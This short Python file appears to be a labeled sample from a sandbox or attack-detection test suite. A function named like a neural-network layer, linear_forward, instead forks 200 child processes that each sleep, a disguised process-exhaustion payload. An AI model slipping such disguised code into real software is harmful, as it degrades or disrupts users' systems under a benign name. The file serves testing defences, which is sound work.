"""Forks, 200 times at most.

{"attack": "P31", "class": [14], "base": "bad_a", "level": "sealed", "A": "raised", "B": "passed",
 "C": "passed"}
"""

import os
import time


def linear_forward(X, W, b):
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
